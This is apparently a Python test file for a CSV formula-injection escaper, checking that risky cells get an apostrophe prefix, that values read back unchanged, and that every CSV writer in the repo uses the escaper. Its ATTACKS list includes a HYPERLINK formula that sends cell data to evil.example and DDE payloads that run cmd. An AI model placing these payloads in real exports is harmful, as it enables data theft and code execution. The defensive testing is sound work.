"""Formula-safe CSV (OWASP CSV injection): one escaper, reversible, used by every CSV writer."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.csv_safety import FORMULA_STARTS, csv_writer, escape_cell, read_back, read_back_row
from core.settings import REPO_ROOT

OUR_PACKAGES = ("nurture", "web", "scheduler", "campaigns", "templates", "providers", "contacts",
                "staff", "storage", "core")  # fmt: skip
ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&A2,"Click for your results")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_cells_a_spreadsheet_would_run_start_with_an_apostrophe(attack: str) -> None:
    assert escape_cell(attack) == "'" + attack


@pytest.mark.parametrize(
    "value", ["Maria", "O'Brien", "'quoted'", "", "+13105550101", "-12", "2.5", "a=b"]
)
def test_ordinary_text_and_plain_numbers_are_left_alone(value: str) -> None:
    assert escape_cell(value) == value
    assert read_back(value) == value


def test_non_text_values_are_written_as_they_are() -> None:
    assert escape_cell(-5) == -5 and escape_cell(None) is None


@given(st.text())
def test_reading_back_gives_the_original_value(value: str) -> None:
    escaped = escape_cell(value)
    assert isinstance(escaped, str)
    assert read_back(escaped) == value
    assert read_back_row([escaped, "x"]) == [value, "x"]
    number = re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?", value, re.ASCII)
    assert escaped[:1] not in FORMULA_STARTS or number is not None


def test_a_value_that_already_starts_with_an_apostrophe_survives_the_round_trip() -> None:
    assert escape_cell("'=not a formula") == "''=not a formula"
    assert read_back("''=not a formula") == "'=not a formula"


def test_the_writer_escapes_every_cell_of_every_row() -> None:
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["name", *ATTACKS[:2]])
    writer.writerows([[1, ATTACKS[2]], [ATTACKS[3], None]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [
        ["name", "'" + ATTACKS[0], "'" + ATTACKS[1]],
        ["1", "'" + ATTACKS[2]],
        ["'" + ATTACKS[3], ""],
    ]


def test_every_csv_writer_in_the_product_goes_through_the_escaper() -> None:
    """One rule in one place: csv.writer / DictWriter appear only in core/csv_safety.py."""
    raw_writers = re.compile(
        r"\bcsv\.(writer|DictWriter)\b|from csv import .*\b(writer|DictWriter)"
    )
    offenders = [
        str(path.relative_to(REPO_ROOT))
        for package in OUR_PACKAGES
        for path in (REPO_ROOT / package).rglob("*.py")
        if raw_writers.search(path.read_text(encoding="utf-8"))
        and path != REPO_ROOT / "core" / "csv_safety.py"
    ]
    assert offenders == [], (
        "write CSV with core.csv_safety.csv_writer (and read our own files back with "
        "read_back_row before writing their cells again)"
    )
